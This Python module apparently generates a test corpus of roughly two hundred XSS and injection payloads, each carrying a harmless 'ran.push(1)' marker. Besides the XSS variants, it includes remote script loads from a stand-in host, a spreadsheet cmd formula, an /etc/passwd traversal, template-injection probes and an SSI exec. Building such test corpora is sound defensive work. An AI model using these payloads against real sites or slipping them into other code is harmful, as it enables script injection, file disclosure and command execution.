"""Two hundred ways of hiding a script in words that are typed, each with the mark that it leaves if it runs."""

from collections.abc import Iterator

RUN = "ran.push(1)"

ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</ScRiPt>",
    "<script/x>{run}</script>",
    "<script src=data:,{run}></script>",
    "<script src=//workshop.example/x.js></script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror={run} //",
    "<IMG SRC=x ONERROR={run}>",
    "<img src='x' onerror='{run}'>",
    '<img src="x" onerror="{run}">',
    "<img/src=x/onerror={run}>",
    "<img src=x:x onerror\t=\t{run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><a xlink:href=javascript:{run}><text y=20>K1</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x onload={run}></svg>",
    "<math><mi xlink:href=javascript:{run}>K1</mi></math>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<button autofocus onfocus={run}>K1</button>",
    "<video src=x onerror={run}>",
    "<audio src=x onerror={run}>",
    "<video><source onerror={run}></video>",
    "<marquee onstart={run}>K1</marquee>",
    "<a href=javascript:{run}>K1</a>",
    "<a href='java\tscript:{run}'>K1</a>",
    "<a href=&#106;avascript:{run}>K1</a>",
    "<form action=javascript:{run}><button>K1</button></form>",
    "<button formaction=javascript:{run}>K1</button>",
    "<base href=//workshop.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=//workshop.example/x.css>",
    "<style>@import '//workshop.example/x.css';</style>",
    "<style onload={run}></style>",
    "<p style=animation:x onanimationstart={run}>K1</p>",
    "<p hx-get=/ hx-trigger=load>K1</p>",
    "<p hx-on:load={run}>K1</p>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)
ENDINGS = ("{it}", '"{it}', "'{it}", "</title></textarea></script></style>{it}")
OTHERS = (
    '" onfocus={run} autofocus x="',
    "' onfocus={run} autofocus x='",
    " onmouseover={run} ",
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "data:text/html,<script>{run}</script>",
    "{{{{ cycler.__init__.__globals__ }}}}",
    "{{% for x in page %}}{{{{ x }}}}{{% endfor %}}",
    "${{{run}}}",
    "'; {run}; '",
    '"; {run}; "',
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "-->{it}<!--",
    "]]>{it}",
    "*/{it}/*",
    "\u202e<script>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "<!--#exec cmd='ls'-->",
    "<?php {run} ?>",
)


def payloads() -> tuple[str, ...]:
    """All of them, each once, in one line and short enough for a name where it can be."""
    return tuple(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    image = f"<img src=x onerror={RUN}>"
    for ending in ENDINGS:
        for element in ELEMENTS:
            yield ending.format(it=element.format(run=RUN))
    for other in OTHERS:
        yield other.format(run=RUN, it=image)
